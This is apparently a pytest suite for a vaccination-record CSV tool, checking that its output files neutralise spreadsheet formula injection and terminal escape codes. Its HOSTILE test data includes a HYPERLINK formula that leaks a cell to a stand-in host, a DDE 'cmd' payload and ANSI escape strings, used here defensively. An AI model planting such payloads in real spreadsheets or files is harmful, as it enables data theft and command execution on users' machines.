"""The CSV files vaxqr writes, as a spreadsheet user meets them.

* No cell that Excel or LibreOffice would run as a formula (CWE-1236): files only people
  read (mismatches.csv, rejects.csv, manifest.csv) quote such cells with a leading
  apostrophe; the file vaxqr reads back (reconcile's matched.csv, fed to ``vaxqr issue``)
  never holds one, as its inputs refuse them (lot, site, and a name must start with a letter).
  "Would run" is judged by reading each file as a spreadsheet may: split on commas (with
  quotes), and split on ``;`` or tabs (Excel where the list separator is ``;``).
* A UTF-8 BOM at the start of every CSV the CLI writes (Excel on Windows reads a file
  without one in the ANSI code page: "Nguyá»…n"), none with ``--no-bom`` or from the
  library by default; vaxqr's own readers take both.
"""

from __future__ import annotations

import csv
import io
import os
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from vaxqr import issue
from vaxqr.cli import app
from vaxqr.credential import PersonName
from vaxqr.errors import ValidationError
from vaxqr.ledger import Entry
from vaxqr.reconcile import reconcile_files
from vaxqr.safetext import FORMULA_START, spreadsheet_cell, spreadsheet_formula

from records import good_rows, write_csv

ROOT = Path(__file__).resolve().parent.parent
SIGNER = ROOT / "keys" / "examples" / "communes" / "31078"
BOM = b"\xef\xbb\xbf"
TODAY = date(2022, 6, 30)
REPORT = date(2021, 11, 23)
HEADER = ",".join(issue.COLUMNS)
POP = ("id_number,full_name,sex,dob,commune_code\n"
       "091190000001,Lê Thị Hòa,Nữ,1990-03-21,31078\n"
       "091085000002,Trần Văn Đạt,Nam,1985-07-02,31078\n"
       "091060000004,-Võ Văn Ánh,Nam,1960-01-15,31078\n")
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+84 90 123",
           "-2+3", " =1+1", "\t=1+1", "Lê Thị Hòa;=1+1", "Lê;\r\n=cmd|' /C calc'!A0",
           "a\n@x", "Trần Văn Đạt; -1", "Lê\x1b]0;owned\x07 Thị\x1b[2J Hòa"]


def _formula_cells(data: bytes) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run as formulas, reading it split on
    commas, on semicolons and on tabs (quotes honoured where a cell starts with one, as
    Excel and LibreOffice do)."""
    text = data.decode("utf-8-sig")
    bad = []
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                lead = cell.lstrip(" ")[:1]
                if lead and lead in FORMULA_START and cell.strip("-"):
                    bad.append(cell)
    return bad


def _csv_line(*cells: str) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(cells)
    return buf.getvalue().encode()


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="=+-@\t\r\n ;,\"'aĐ1", max_size=12))
def test_spreadsheet_cell_leaves_no_formula_in_any_reading(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert _formula_cells(_csv_line("x", cell, "y")) == []
    assert cell.replace("'", "") == text.replace("'", "")  # only apostrophes are added
    if not spreadsheet_formula(text) and text.lstrip(" ")[:1] not in tuple(FORMULA_START):
        assert cell == text
    if cell == text and text.lstrip(" ")[:1] in tuple(FORMULA_START):
        assert text.strip("-") == ""  # "-", "--": "none", shown as text


@pytest.mark.parametrize("text,cell", [
    ("=1+1", "'=1+1"), ("-Nguyễn", "'-Nguyễn"), ("+84", "'+84"), ("@SUM(1)", "'@SUM(1)"),
    (" =1", "' =1"), ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ('a;"=1', "a;\"'=1"),
    ("Lê;=1", "Lê;'=1"),
    ("a\n=1", "a\n'=1"), ("-", "-"), ("--", "--"), ("Nguyễn Thị Ánh", "Nguyễn Thị Ánh"),
    ("a-b", "a-b"), ("x;y", "x;y"), ("", ""), ("Trạm Y tế 31078", "Trạm Y tế 31078"),
    ("Lê\x1b[31m", "Lê␛[31m"), ("a\x00b\x7f", "a␀b␡"), ("\x9b2J", "\ufffd2J"),
    ("\x1b;=1", "␛;'=1"), ("x\x1b\t=1", "x␛\t'=1")])
def test_spreadsheet_cell_examples(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell


@pytest.mark.parametrize("name", ["-Nguyễn Văn An", "'Lê Thị Hòa", ".Trần", "1 Nguyễn"])
def test_a_name_starts_with_a_letter(name: str) -> None:
    """A name goes into matched.csv and the manifest as it is: "-Nguyễn" would run there
    as a formula (and no name starts with anything but a letter)."""
    with pytest.raises(ValidationError, match=r"start with a letter|transliteration"):
        PersonName.from_full_name(name)
    assert PersonName.from_full_name("Nguyễn Văn An").fn == "Nguyễn"


def _reconcile_hostile(tmp_path: Path, bom: bool) -> tuple[Path, object]:
    tmp_path.mkdir(exist_ok=True)
    pop = tmp_path / "pop.csv"
    pop.write_text(POP, encoding="utf-8")
    rows = [f'"{n.replace(chr(34), chr(34) * 2)}",Nữ,1990-03-21,091190000001,1,2,'
            f"2021-08-01,pfizer,L1,Trạm Y tế" for n in HOSTILE]
    rows += ["Lê Thị Hòa,Nữ,1990-03-21,+84190000001,1,2,2021-08-01,pfizer,L1,x",
             "Lê Thị Hòa,Nữ,1990-03-21,091190000001,2,2,2021-09-01,pfizer,L2;=1+1,x",
             "Trần Văn Đạt,Nam,1985-07-02,091085000002,1,2,2021-07-01,pfizer,-,Trạm Y tế",
             "Võ Văn Ánh,Nam,1960-01-15,091060000004,1,2,2021-08-01,verocell,L7,x"]
    vac = tmp_path / "vac.csv"
    vac.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / f"out{bom}"
    res = reconcile_files(vac, pop, out, report_date=REPORT, today=TODAY, workers=1, bom=bom)
    return out, res


@pytest.mark.parametrize("bom", [False, True])
def test_reconcile_outputs_hold_no_formula(tmp_path: Path, bom: bool) -> None:
    out, res = _reconcile_hostile(tmp_path, bom)
    matched = (out / "matched.csv").read_bytes()
    mismatches = (out / "mismatches.csv").read_bytes()
    assert matched.startswith(BOM) == mismatches.startswith(BOM) == bom
    assert _formula_cells(matched) == []
    assert _formula_cells(mismatches) == []
    assert b"\x1b" not in mismatches and b"\x07" not in mismatches  # nothing a terminal runs
    with (out / "mismatches.csv").open(encoding="utf-8-sig", newline="") as fh:
        bad = list(csv.DictReader(fh))
    # the record's values are all there, quoted where a spreadsheet would run them
    names = [r["full_name"] for r in bad]
    for n in HOSTILE:
        assert spreadsheet_cell(n) in names
    assert "'=HYPERLINK" in names[0] and names[0].startswith("'")
    assert any(r["id_number"] == "'+84190000001" for r in bad)
    lot = next(r for r in bad if "lot" in r["reason"])
    assert "formula" in lot["reason"]
    # a register name that starts with a dash is not written to matched.csv
    vo = next(r for r in bad if r["register_full_name"].endswith("Võ Văn Ánh"))
    assert vo["register_full_name"] == "'-Võ Văn Ánh"
    rows = list(issue.read_csv(out / "matched.csv"))  # BOM or not, vaxqr issue reads it
    assert [f["full_name"] for _, f in rows] == ["Trần Văn Đạt"]
    assert res.matched_rows == 1


def test_vaxqr_issue_reads_what_reconcile_writes_with_or_without_bom(tmp_path: Path) -> None:
    a, _ = _reconcile_hostile(tmp_path / "a", True)
    b, _ = _reconcile_hostile(tmp_path / "b", False)
    assert (a / "matched.csv").read_bytes() == BOM + (b / "matched.csv").read_bytes()
    assert list(issue.read_csv(a / "matched.csv")) == list(issue.read_csv(b / "matched.csv"))


def test_a_lot_or_site_with_a_formula_after_a_semicolon_is_refused() -> None:
    fields = dict(zip(issue.COLUMNS, ["Lê Thị Hòa", "Nữ", "1990-03-21", "091190000001", "1",
                                      "2", "2021-08-01", "pfizer", "L1", "x"], strict=True))
    for what, value in (("lot", "L2;=1+1"), ("site", "Trạm; @SUM(1)"), ("lot", "-5")):
        with pytest.raises(ValidationError, match="formula"):
            issue.parse_record(1, {**fields, what: value}, today=TODAY)
    assert issue.parse_record(1, {**fields, "lot": "L2; 5", "site": "a-b;c"},
                              today=TODAY).lot == "L2; 5"


def test_manifest_quotes_a_name_from_an_earlier_ledger() -> None:
    """Names are checked before signing now; a ledger written before that may hold one that
    a spreadsheet would run, and the manifest is rewritten from the ledger on a resume."""
    e = Entry("URN:UVCI:01:VN:091/31078/ABC#X", "b.csv", 3, "d" * 64, "-Lê Văn An", "k" * 16,
              1, 2, "HC1:XYZ", "qr/0000003.png")
    text = issue._manifest_text([e], None)
    assert text.startswith("3,URN:UVCI:01:VN:091/31078/ABC#X,'-Lê Văn An,")
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(issue._manifest_row(e, None))
    assert text == buf.getvalue()


@pytest.fixture
def runner(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> CliRunner:
    os.chmod(SIGNER / "signer.key", 0o600)
    monkeypatch.setenv("VAXQR_PASSWORD", "vaxqr-demo")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return CliRunner()


def _signer_copy(tmp_path: Path) -> Path:
    import shutil

    dst = tmp_path / "signer"
    shutil.copytree(SIGNER, dst, ignore=shutil.ignore_patterns("ledger.sqlite*"))
    os.chmod(dst / "signer.key", 0o600)
    return dst


@pytest.mark.parametrize("flag", [[], ["--no-bom"]])
def test_cli_batch_files_for_excel(runner: CliRunner, tmp_path: Path, flag: list[str]) -> None:
    rows = good_rows(3)
    rows.append([*rows[0][:7], "x;=1+1", *rows[0][8:]])  # unknown vaccine, named in rejects
    rows.append(["-Nguyễn Văn An", *rows[1][1:]])
    src = write_csv(tmp_path / "in.csv", rows)
    out = tmp_path / "batch"
    r = runner.invoke(app, ["issue", "--signer", str(_signer_copy(tmp_path)), "--from",
                            str(src), "--out", str(out), *flag])
    assert r.exit_code == 0, r.output
    for name in ("manifest.csv", "rejects.csv"):
        data = (out / name).read_bytes()
        assert data.startswith(BOM) == (not flag), name
        assert _formula_cells(data) == [], name
    with (out / "rejects.csv").open(encoding="utf-8-sig", newline="") as fh:
        rejects = {int(x["row"]): x["reason"] for x in csv.DictReader(fh)}
    assert "x;'=1+1" in rejects[4] and "start with a letter" in rejects[5]
    with (out / "manifest.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert len(list(csv.DictReader(fh))) == 3


@pytest.mark.parametrize("flag", [[], ["--no-bom"]])
def test_cli_reconcile_files_for_excel(runner: CliRunner, tmp_path: Path,
                                       flag: list[str]) -> None:
    pop = tmp_path / "pop.csv"
    pop.write_text(POP, encoding="utf-8")
    vac = write_csv(tmp_path / "vac.csv", [
        ["Lê Thị Hòa", "Nữ", "1990-03-21", "091190000001", "1", "2", "2021-08-01", "pfizer",
         "L1", "x"],
        ["=Trần Văn Đạt", "Nam", "1985-07-02", "091085000002", "1", "2", "2021-07-01",
         "pfizer", "L1", "x"]])
    out = tmp_path / "out"
    r = runner.invoke(app, ["reconcile", str(vac), "-p", str(pop), "-o", str(out), "--date",
                            "2021-11-23", "--json", *flag])
    assert r.exit_code == 0, r.output
    for name in ("matched.csv", "mismatches.csv", "coverage.csv"):
        data = (out / name).read_bytes()
        assert data.startswith(BOM) == (not flag), name
        assert _formula_cells(data) == [], name
    assert "'=Trần Văn Đạt" in (out / "mismatches.csv").read_text(encoding="utf-8-sig")
    assert (out / "report.json").read_bytes()[:1] == b"{"
